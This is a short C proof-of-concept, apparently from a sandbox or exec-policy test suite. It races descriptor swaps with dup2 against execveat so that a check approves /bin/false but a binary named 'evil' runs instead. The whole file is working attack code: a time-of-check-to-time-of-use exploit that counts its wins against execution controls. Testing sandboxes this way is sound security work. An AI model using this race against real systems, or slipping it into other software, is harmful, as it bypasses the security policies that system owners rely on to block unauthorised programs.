// A descriptor becomes another one between the decision about its execution and that.
#include "attack.h"

static int slot, good, bad;

static void *flip(void *unused)
{
	while (!over) {
		dup2(bad, slot);
		dup2(good, slot);
	}
	return unused;
}

int main(int argc, char **argv)
{
	long n = tries(argc, argv);
	honest();
	good = must(open("/bin/false", O_PATH));
	bad = must(open("secret/evil", O_PATH));
	slot = must(dup(good));
	for (long i = 0; i < n; i++) {
		pid_t pid = helper();
		if (pid == 0) {
			char *args[] = {"evil", NULL};
			start(flip, NULL);
			syscall(SYS_execveat, slot, "", args, args + 1, AT_EMPTY_PATH);
			_exit(LOST);
		}
		if (exited(pid) == WON)
			won("exec %ld", i);
	}
	lost("0 of %ld", n);
}
